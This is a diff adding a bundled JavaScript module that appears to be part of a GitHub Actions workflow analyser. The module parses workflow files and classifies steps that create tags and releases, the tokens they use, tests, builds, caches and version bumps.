+// ---- tags and releases --------------------------------------------------------------------
+function tokenOfValue(value) {
+    if (value === undefined || value.trim() === '')
+        return 'github-token';
+    return isGithubToken(value) ? 'github-token' : 'other';
+}
+function envToken(step, ...names) {
+    const env = stepEnv(step);
+    for (const name of names) {
+        const value = env.get(name)?.str();
+        if (value !== undefined)
+            return value;
+    }
+    return undefined;
+}
+/** The credential `git push` uses in the step's job: actions/checkout's, unless the script sets its own. */
+function gitPushToken(step) {
+    const script = step.run ?? '';
+    const secrets = (0,expressions/* contextPathsIn */.rE)(script).filter((path) => /^(secrets\.|steps\.)/.test(path));
+    if (secrets.some((path) => !/^secrets\.GITHUB_TOKEN$/i.test(path)))
+        return 'other';
+    if (/x-access-token:\$|oauth2:\$|@github\.com.*\$\{?\w*(PAT|TOKEN)/i.test(script) &&
+        !/\$\{?GITHUB_TOKEN\b/.test(script))
+        return 'other';
+    const checkout = step.job?.steps.find((each) => (0,workflow_model/* actionName */.aM)(each.uses) === 'actions/checkout');
+    if (checkout) {
+        if ((0,workflow_model/* stepInput */.rj)(checkout, 'ssh-key'))
+            return 'other';
+        const token = (0,workflow_model/* stepInput */.rj)(checkout, 'token');
+        if (token !== undefined)
+            return tokenOfValue(token);
+    }
+    return 'github-token';
+}
+const RELEASE_ACTIONS = {
+    'softprops/action-gh-release': { kind: 'release', tokenInputs: ['token'] },
+    'ncipollo/release-action': { kind: 'release', tokenInputs: ['token'] },
+    'actions/create-release': { kind: 'release', tokenInputs: [], env: true },
+    'marvinpinto/action-automatic-releases': { kind: 'release', tokenInputs: ['repo_token'] },
+    'googleapis/release-please-action': { kind: 'release', tokenInputs: ['token'] },
+    'google-github-actions/release-please-action': { kind: 'release', tokenInputs: ['token'] },
+    'rickstaa/action-create-tag': { kind: 'tag', tokenInputs: ['github_token'] },
+    'mathieudutour/github-tag-action': { kind: 'tag', tokenInputs: ['github_token'] },
+    'anothrnick/github-tag-action': { kind: 'tag', tokenInputs: [], env: true },
+    'cycjimmy/semantic-release-action': { kind: 'release', tokenInputs: [], env: true },
+    'codfish/semantic-release-action': { kind: 'release', tokenInputs: [], env: true },
+    'changesets/action': { kind: 'release', tokenInputs: [], env: true },
+};
+/** Tags and GitHub Releases a step creates. */
+function tagCreationsOf(step, scripts, releaseIt = RELEASE_IT_DEFAULTS) {
+    const found = [];
+    const name = (0,workflow_model/* actionName */.aM)(step.uses);
+    if (name) {
+        const known = RELEASE_ACTIONS[name];
+        const tokenlessRelease = /(^|\/)create-release$/.test(name) && name.includes('tokenless');
+        if (known &&
+            !(name === 'changesets/action' &&
+                (!(0,workflow_model/* stepInput */.rj)(step, 'publish') || (0,workflow_model/* stepInput */.rj)(step, 'createGithubReleases') === 'false'))) {
+            const value = known.tokenInputs.map((input) => (0,workflow_model/* stepInput */.rj)(step, input)).find((v) => v !== undefined) ??
+                (known.env ? envToken(step, 'GITHUB_TOKEN', 'GH_TOKEN') : undefined);
+            found.push({
+                step,
+                kind: known.kind,
+                tool: step.uses,
+                needle: step.uses,
+                token: tokenOfValue(value),
+            });
+        }
+        else if (tokenlessRelease) {
+            found.push({
+                step,
+                kind: 'release',
+                tool: 'tokenless create-release',
+                needle: step.uses,
+                token: tokenOfValue((0,workflow_model/* stepInput */.rj)(step, 'token')),
+            });
+        }
+        else if (name === 'actions/github-script') {
+            const script = (0,workflow_model/* stepInput */.rj)(step, 'script') ?? '';
+            const kind = /\bcreateRelease\s*\(/.test(script)
+                ? 'release'
+                : /\bcreateRef\s*\(|\bcreateTag\s*\(/.test(script)
+                    ? 'tag'
+                    : undefined;
+            if (kind)
+                found.push({
+                    step,
+                    kind,
+                    tool: 'actions/github-script',
+                    needle: step.uses,
+                    token: tokenOfValue((0,workflow_model/* stepInput */.rj)(step, 'github-token')),
+                });
+        }
+    }
+    else if (/(^|\/)create-release$/.test((0,workflow_model/* localPath */.$S)(step.uses) ?? '')) {
+        found.push({
+            step,
+            kind: 'release',
+            tool: 'tokenless create-release',
+            needle: step.uses,
+            token: tokenOfValue((0,workflow_model/* stepInput */.rj)(step, 'token')),
+        });
+    }
+    const commands = stepCommands(step, scripts);
+    const jobPushes = (step.job?.steps ?? [step]).some((each) => stepCommands(each, scripts).some((command) => command.words[0] === 'git' && command.words[1] === 'push'));
+    for (const command of commands) {
+        const words = command.words;
+        const tool = toolWords(words);
+        const ghToken = () => tokenOfValue(envToken(step, 'GH_TOKEN', 'GITHUB_TOKEN'));
+        if (words[0] === 'git' && words[1] === 'tag') {
+            const args = words.slice(2);
+            const listing = args.length === 0 ||
+                has(args, '-l', '--list', '-d', '--delete', '-v', '--verify', '--contains', '--points-at', '-n', '--merged', '--no-merged', '--sort');
+            if (!listing && jobPushes)
+                found.push({
+                    step,
+                    kind: 'tag',
+                    tool: 'git tag',
+                    needle: command.text,
+                    token: gitPushToken(step),
+                });
+        }
+        else if (words[0] === 'git' && words[1] === 'push' && has(words, '--tags', '--follow-tags')) {
+            found.push({
+                step,
+                kind: 'tag',
+                tool: 'git push --tags',
+                needle: command.text,
+                token: gitPushToken(step),
+            });
+        }
+        else if (words[0] === 'npm' &&
+            pmSubcommand(words) === 'version' &&
+            !has(words, '--no-git-tag-version') &&
+            jobPushes) {
+            found.push({
+                step,
+                kind: 'tag',
+                tool: 'npm version',
+                needle: command.text,
+                token: gitPushToken(step),
+            });
+        }
+        else if ((words[0] === 'gh' || words[0] === 'hub') &&
+            words[1] === 'release' &&
+            words[2] === 'create') {
+            found.push({
+                step,
+                kind: 'release',
+                tool: `${words[0]} release create`,
+                needle: command.text,
+                token: words[0] === 'gh' ? ghToken() : 'other',
+            });
+        }
+        else if ((words[0] === 'gh' && words[1] === 'api') || words[0] === 'curl') {
+            const text = words.join(' ');
+            const posts = words[0] === 'gh'
+                ? /(-X|--method)\s+POST|\s-[fF]\s|--field|--raw-field|--input/.test(` ${text}`)
+                : /(-X|--request)\s*POST|\s(-d|--data\S*)\s/.test(` ${text} `);
+            if (posts && /\/releases(\s|$|\?|')/.test(`${text} `))
+                found.push({
+                    step,
+                    kind: 'release',
+                    tool: `${words[0]} POST /releases`,
+                    needle: command.text,
+                    token: words[0] === 'gh' ? ghToken() : 'other',
+                });
+            else if (posts && /\/git\/refs/.test(text) && /refs\/tags/.test(text))
+                found.push({
+                    step,
+                    kind: 'tag',
+                    tool: `${words[0]} POST /git/refs`,
+                    needle: command.text,
+                    token: words[0] === 'gh' ? ghToken() : 'other',
+                });
+        }
+        else if ((tool[0] === 'semantic-release' || tool[0] === 'multi-semantic-release') &&
+            !has(tool, '-d', '--dry-run')) {
+            found.push({
+                step,
+                kind: 'release',
+                tool: tool[0],
+                needle: command.text,
+                token: tokenOfValue(envToken(step, 'GITHUB_TOKEN', 'GH_TOKEN')),
+            });
+        }
+        else if (tool[0] === 'changeset' &&
+            (tool[1] === 'publish' || tool[1] === 'tag') &&
+            jobPushes) {
+            found.push({
+                step,
+                kind: 'tag',
+                tool: `changeset ${tool[1]}`,
+                needle: command.text,
+                token: gitPushToken(step),
+            });
+        }
+        else if (tool[0] === 'lerna' && (tool[1] === 'publish' || tool[1] === 'version')) {
+            found.push({
+                step,
+                kind: 'tag',
+                tool: `lerna ${tool[1]}`,
+                needle: command.text,
+                token: gitPushToken(step),
+            });
+        }
+        else if (tool[0] === 'release-it' && !has(tool, '-d', '--dry-run')) {
+            const release = releaseItSetting(tool, 'github.release', releaseIt.githubRelease);
+            if (!release && !releaseItSetting(tool, 'git.tag', releaseIt.gitTag))
+                continue;
+            found.push({
+                step,
+                kind: release ? 'release' : 'tag',
+                tool: 'release-it',
+                needle: command.text,
+                token: tokenOfValue(envToken(step, 'GITHUB_TOKEN', 'GH_TOKEN')),
+            });
+        }
+    }
+    return found;
+}
+/** A `git push` of a branch (not only tags) in the step. */
+function pushesBranch(step, scripts) {
+    return stepCommands(step, scripts).some((command) => {
+        const words = command.words;
+        if (words[0] !== 'git' || words[1] !== 'push')
+            return false;
+        if (has(words, '--follow-tags', '--all', '--mirror'))
+            return true;
+        if (has(words, '--tags', '--delete', '-d'))
+            return false;
+        const refs = operands(words.slice(2)).slice(1);
+        return (refs.length === 0 ||
+            refs.some((ref) => !/^(refs\/tags\/|v?\d|v\$|\$\{?\w*(TAG|VERSION)|\$\{\{.*(tag|version))/i.test(ref)));
+    });
+}
+/** A step that commits (so a tag made after it points at a new commit). */
+function commits(step, scripts) {
+    return stepCommands(step, scripts).some((command) => {
+        const words = command.words;
+        if (words[0] === 'git' && words[1] === 'commit')
+            return true;
+        if (words[0] === 'npm' &&
+            pmSubcommand(words) === 'version' &&
+            !has(words, '--no-git-tag-version'))
+            return true;
+        return false;
+    });
+}
+// ---- tests, builds, caches ----------------------------------------------------------------
+const TEST_SCRIPT = /^(test|tests|ci|check|checks|verify|e2e|unit|integration|coverage)([:_.-].*)?$/i;
+const BUILD_SCRIPT = /^(build|compile|bundle|prepare|prepack|dist|package)([:_.-].*)?$/i;
+const TEST_TOOLS = new Set([
+    'pytest',
+    'tox',
+    'nox',
+    'jest',
+    'vitest',
+    'mocha',
+    'ava',
+    'tap',
+    'karma',
+    'playwright',
+    'cypress',
+]);
+function isTestCommand(words) {
+    if (runsPackageManager(words)) {
+        const sub = pmSubcommand(words);
+        if (sub === 'test' || sub === 't' || sub === 'cit' || sub === 'install-test')
+            return true;
+        const script = scriptName(words);
+        return script !== undefined && TEST_SCRIPT.test(script);
+    }
+    const tool = toolWords(words);
+    const [first, second] = tool;
+    if (TEST_TOOLS.has(first ?? ''))
+        return first !== 'playwright' || second === 'test';
+    if (first === 'unittest' || first === 'pytest')
+        return true;
+    if ((first === 'go' ||
+        first === 'cargo' ||
+        first === 'deno' ||
+        first === 'dotnet' ||
+        first === 'swift') &&
+        second === 'test')
+        return true;
+    if ((first === 'make' || first === 'just') && TEST_SCRIPT.test(second ?? ''))
+        return true;
+    if (first === 'hatch' &&
+        (second === 'test' || (second === 'run' && TEST_SCRIPT.test(tool[2] ?? ''))))
+        return true;
+    if ((first === 'mvn' || first === './mvnw') && has(tool, 'test', 'verify'))
+        return true;
+    if ((first === 'gradle' || first === './gradlew') && has(tool, 'test', 'check'))
+        return true;
+    return false;
+}
+/** The command or action by which a step runs tests, if it does. */
+function testsRunBy(step, scripts) {
+    const name = (0,workflow_model/* actionName */.aM)(step.uses);
+    if (/(^|\/)test-gate$/.test(name) || /(^|\/)test-gate$/.test((0,workflow_model/* localPath */.$S)(step.uses) ?? ''))
+        return step.uses;
+    return stepCommands(step, scripts).find((command) => isTestCommand(command.words))?.text;
+}
+/** The command by which a step builds the project or installs its dependencies (or tests it). */
+function buildRunBy(step, scripts) {
+    for (const command of stepCommands(step, scripts)) {
+        const words = command.words;
+        if (isTestCommand(words))
+            return command.text;
+        if (runsPackageManager(words)) {
+            const sub = pmSubcommand(words);
+            const global = has(words, '-g', '--global', 'global');
+            const noScripts = has(words, '--ignore-scripts') || words.some((word) => word === '--mode=skip-build');
+            const installs = [
+                'install',
+                'i',
+                'ci',
+                'add',
+                'clean-install',
+                'ic',
+                'install-clean',
+            ].includes(sub ?? '');
+            if (!global && !noScripts && (installs || (words[0] === 'yarn' && sub === undefined)))
+                return command.text;
+            if (sub === 'pack' || sub === 'rebuild')
+                return command.text;
+            const script = scriptName(words);
+            if (script !== undefined && BUILD_SCRIPT.test(script))
+                return command.text;
+            continue;
+        }
+        const tool = toolWords(words);
+        const [first, second] = tool;
+        if (first === 'build' || first === 'tsc' || first === 'setup.py')
+            return command.text;
+        if (['uv', 'poetry', 'hatch', 'pdm', 'flit', 'maturin', 'cargo', 'go'].includes(first ?? '') &&
+            second === 'build')
+            return command.text;
+        if ((first === 'poetry' || first === 'pdm') && second === 'install')
+            return command.text;
+        if (first === 'uv' && second === 'sync')
+            return command.text;
+        if (/^pip3?$/.test(first ?? '') && (second === 'install' || second === 'wheel')) {
+            const args = tool.slice(2);
+            if (args.some((arg) => arg === '.' ||
+                arg.startsWith('./') ||
+                arg === '-e' ||
+                arg === '--editable' ||
+                arg === '-r' ||
+                arg.startsWith('--requirement') ||
+                arg.startsWith('.[')))
+                return command.text;
+        }
+        if (/^python3?$/.test(first ?? '') && second === 'setup.py')
+            return command.text;
+        if (first === 'make' && !has(tool, 'publish', 'release', 'upload'))
+            return command.text;
+    }
+    return undefined;
+}
+/** A cache restored by the step: actions/cache, or a setup action's `cache:` input. */
+function cacheOf(step) {
+    const name = (0,workflow_model/* actionName */.aM)(step.uses);
+    if (name === 'actions/cache' || name === 'actions/cache/restore')
+        return step.usesNode;
+    if (/^actions\/setup-(node|python|go|java|dotnet)$/.test(name) || name === 'pnpm/action-setup') {
+        const cache = step.with?.get('cache');
+        const value = cache?.str()?.trim();
+        if (cache && value && value !== 'false' && value !== "''")
+            return cache;
+    }
+    if (name === 'astral-sh/setup-uv') {
+        const cache = step.with?.get('enable-cache');
+        if (cache?.str()?.trim() === 'true')
+            return cache;
+    }
+    return undefined;
+}
+// ---- dates and versions -------------------------------------------------------------------
+const DATE_IN_CODE = /\bdatetime\.(now|utcnow|today)\s*\(|\bdate\.today\s*\(|\btime\.strftime\s*\(|\bnew Date\s*\(|\bDate\.now\s*\(/;
+const VERSION_BUMPS = new Set([
+    'major',
+    'minor',
+    'patch',
+    'premajor',
+    'preminor',
+    'prepatch',
+    'prerelease',
+    'from-git',
+]);
+/** A date or version computed by the step and handed on (output, env, manifest); with what. */
+function versionComputedBy(step, scripts) {
+    const script = step.run ?? (0,workflow_model/* stepInput */.rj)(step, 'script') ?? '';
+    const handsOn = /GITHUB_OUTPUT|GITHUB_ENV|set-output|setOutput|exportVariable|version|tag/i.test(script);
+    for (const command of stepCommands(step, scripts)) {
+        const words = command.words;
+        const tool = toolWords(words);
+        if (words[0] === 'date' && handsOn)
+            return { needle: command.text, what: 'date' };
+        if (words[0] === 'npm' &&
+            pmSubcommand(words) === 'version' &&
+            VERSION_BUMPS.has(operands(words.slice(2))[0] ?? ''))
+            return { needle: command.text, what: 'version' };
+        if ((tool[0] === 'poetry' || tool[0] === 'hatch') &&
+            tool[1] === 'version' &&
+            tool[2] !== undefined &&
+            !tool[2].startsWith('-'))
+            return { needle: command.text, what: 'version' };
+        if ([
+            'bump-my-version',
+            'bumpversion',
+            'bump2version',
+            'standard-version',
+            'commit-and-tag-version',
+        ].includes(tool[0] ?? ''))
+            return { needle: command.text, what: 'version' };
+        if (tool[0] === 'cz' && tool[1] === 'bump')
+            return { needle: command.text, what: 'version' };
+        if (words[0] === 'git' && words[1] === 'describe' && handsOn)
+            return { needle: command.text, what: 'version' };
+        if (tool[0] === 'semantic-release' && has(tool, '--dry-run', '-d') && handsOn)
+            return { needle: command.text, what: 'version' };
+    }
+    const code = DATE_IN_CODE.exec(script);
+    if (code && handsOn) {
+        const line = script.split('\n').find((each) => DATE_IN_CODE.test(each)) ?? code[0];
+        return { needle: line.trim(), what: 'date' };
+    }
+    return undefined;
+}
+
+
+/***/ }),
+
+/***/ 3647:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   $S: () => (/* binding */ localPath),
+/* harmony export */   AK: () => (/* binding */ stepAnchor),
+/* harmony export */   Bb: () => (/* binding */ jobGrantsIdToken),
+/* harmony export */   Ey: () => (/* binding */ describeStep),
+/* harmony export */   S6: () => (/* binding */ readWorkflow),
+/* harmony export */   VE: () => (/* binding */ environmentName),
+/* harmony export */   aM: () => (/* binding */ actionName),
+/* harmony export */   g5: () => (/* binding */ isSelfRepositoryRef),
+/* harmony export */   jg: () => (/* binding */ readStep),
+/* harmony export */   oZ: () => (/* binding */ upstreamJobs),
+/* harmony export */   rj: () => (/* binding */ stepInput)
+/* harmony export */ });
+/* unused harmony exports readPermissions, readEvents, truncate */
+function readPermissions(node) {
+    if (!node)
+        return undefined;
+    const text = node.str();
+    if (text !== undefined) {
+        return { node, idToken: text === 'write-all', writeAll: text === 'write-all' };
+    }
+    return { node, idToken: node.get('id-token')?.str() === 'write', writeAll: false };
+}
+function readInputs(node) {
+    if (!node)
+        return [];
+    return node
+        .entries()
+        .map(([name, value]) => ({ name, type: value.get('type')?.str(), node: value }));
+}
+function readEvents(on) {
+    const events = new Map();
+    if (!on)
+        return events;
+    if (on.isMap())
+        for (const [name, value] of on.entries())
+            events.set(name, value);
+    else
+        for (const name of on.strings())
+            events.set(name, undefined);
+    return events;
+}
+function readStep(node, job, action) {
+    const usesNode = node.get('uses');
+    const runNode = node.get('run');
+    return {
+        node,
+        job,
+        action,
+        via: undefined,
+        uses: usesNode?.str()?.trim(),
+        usesNode,
+        run: runNode?.str(),
+        runNode,
+        with: node.get('with'),
+        env: node.get('env'),
+        if: node.get('if'),
+        name: node.get('name')?.str(),
+        id: node.get('id')?.str(),
+        continueOnError: node.get('continue-on-error'),
+    };
+}
+/** Reads one workflow document; undefined when it is not a workflow (no `jobs:` map). */
+function readWorkflow(file, node) {
+    const jobsNode = node.get('jobs');
+    if (!node.isMap() || !jobsNode?.isMap())
+        return undefined;
+    const on = node.get('on') ?? node.get('true');
+    const events = readEvents(on);
+    const workflow = {
+        file,
+        node,
+        on,
+        events,
+        permissions: readPermissions(node.get('permissions')),
+        env: node.get('env'),
+        concurrency: node.get('concurrency'),
+        jobs: [],
+        inputs: [
+            ...readInputs(events.get('workflow_dispatch')?.get('inputs')),
+            ...readInputs(events.get('workflow_call')?.get('inputs')),
+        ],
+    };
+    for (const [id, jobNode] of jobsNode.entries()) {
+        const job = {
+            id,
+            workflow,
+            node: jobNode,
+            needs: jobNode.get('needs')?.strings() ?? [],
+            permissions: readPermissions(jobNode.get('permissions')),
+            environment: jobNode.get('environment'),
+            if: jobNode.get('if'),
+            env: jobNode.get('env'),
+            concurrency: jobNode.get('concurrency'),
+            strategy: jobNode.get('strategy'),
+            container: jobNode.get('container'),
+            continueOnError: jobNode.get('continue-on-error'),
+            steps: [],
+            uses: jobNode.get('uses'),
+            with: jobNode.get('with'),
+            secrets: jobNode.get('secrets'),
+            called: undefined,
+        };
+        job.steps = (jobNode.get('steps')?.items() ?? []).map((step) => readStep(step, job, undefined));
+        workflow.jobs.push(job);
+    }
+    return workflow;
+}
+/** The name of a job's environment (`environment: x` or `environment: {name: x}`); '' if none. */
+function environmentName(job) {
+    const node = job.environment;
+    if (!node || node.isNull())
+        return '';
+    return (node.isMap() ? node.get('name')?.str() : node.str())?.trim() ?? '';
+}
+/**
+ * Whether the job's GITHUB_TOKEN can mint OIDC tokens: its own `permissions:`, else the
+ * workflow's; with neither, GitHub's default (no id-token), except in a reusable workflow, which
+ * inherits its caller's (undefined: not knowable from this file).
+ */
+function jobGrantsIdToken(job) {
+    if (job.permissions)
+        return job.permissions.idToken;
+    if (job.workflow.permissions)
+        return job.workflow.permissions.idToken;
+    if (job.workflow.events.has('workflow_call'))
+        return undefined;
+    return false;
+}
+/** The jobs `job` waits for, directly or not. */
+function upstreamJobs(job) {
+    const byId = new Map(job.workflow.jobs.map((each) => [each.id, each]));
+    const seen = new Set();
+    const visit = (ids) => {
+        for (const id of ids) {
+            const upstream = byId.get(id);
+            if (upstream && !seen.has(upstream)) {
+                seen.add(upstream);
+                visit(upstream.needs);
+            }
+        }
+    };
+    visit(job.needs);
+    return [...seen];
+}
+/** The `with:` input of a step as text. */
+function stepInput(step, name) {
+    return step.with?.get(name)?.str();
+}
+/**
+ * The repository path (`.github/actions/setup`) of a local `uses:`: `./path` (in the checked-out
+ * workspace) or `$/path` (this repository at the running commit, no checkout needed); undefined
+ * for anything else.
+ */
+function localPath(uses) {
+    const match = /^(\.|\$)\/(.*)$/.exec(uses ?? '');
+    return match ? match[2].replace(/\/+$/, '') || '.' : undefined;
+}
+/** Whether `uses:` is written `$/path`: it never depends on what the job checked out. */
+function isSelfRepositoryRef(uses) {
+    return uses?.startsWith('$/') ?? false;
+}
+/** `owner/repo/path@ref` of a step's action, lower-cased owner/repo, no ref; '' for none. */
+function actionName(uses) {
+    if (!uses || localPath(uses) !== undefined || uses.startsWith('docker://'))
+        return '';
+    return uses.split('@')[0].toLowerCase();
+}
+/** Where a finding about a step goes: the step's `uses:`/`run:` line or, if from a composite action, the job's step that uses it. */
+function stepAnchor(step) {
+    const top = step.via ?? step;
+    return top.usesNode ?? top.runNode ?? top.node;
+}
+/** How a step is named in messages: its name, else its `uses:`, else its first command. */
+function describeStep(step) {
+    const own = step.name ?? step.uses ?? step.run?.trim().split('\n')[0] ?? 'a step';
+    const line = (step.usesNode ?? step.runNode ?? step.node).pos().line;
+    const where = step.via
+        ? ` (in ${step.action?.ref ?? 'a composite action'}, ${step.action?.file.rel ?? ''}:${line})`
+        : ` (line ${line})`;
+    return `\`${truncate(own, 60)}\`${where}`;
+}
+function truncate(text, length) {
+    const single = text.replace(/\s+/g, ' ').trim();
+    return single.length > length ? `${single.slice(0, length - 1)}…` : single;
+}
+
+
+/***/ })
+
+};
